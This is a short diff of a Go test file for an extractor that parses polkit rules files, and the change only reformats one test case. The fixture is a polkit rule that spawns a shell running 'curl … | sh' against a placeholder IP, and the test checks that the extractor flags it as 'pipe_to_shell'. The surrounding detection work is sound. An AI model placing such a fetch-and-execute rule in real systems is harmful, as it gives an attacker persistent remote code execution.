@@ -41,8 +41,10 @@ func TestGrants(t *testing.T) {
 
 // TestSpawn: a program that a rule runs is one that starts.
 func TestSpawn(t *testing.T) {
-	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/polkit-1/rules.d/a.rules",
-		Text: "polkit.addRule(function(action, subject) {\n polkit.spawn([\"/bin/sh\", \"-c\", \"curl -s http://198.51.100.9/x | sh\"]);\n});\n"})
+	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{
+		Path: "/etc/polkit-1/rules.d/a.rules",
+		Text: "polkit.addRule(function(action, subject) {\n polkit.spawn([\"/bin/sh\", \"-c\", \"curl -s http://198.51.100.9/x | sh\"]);\n});\n",
+	})
 	if err != nil || len(records) != 1 || !strings.Contains(strings.Join(records[0].List("traits"), ","), "pipe_to_shell") {
 		t.Errorf("%v, %v", records, err)
 	}
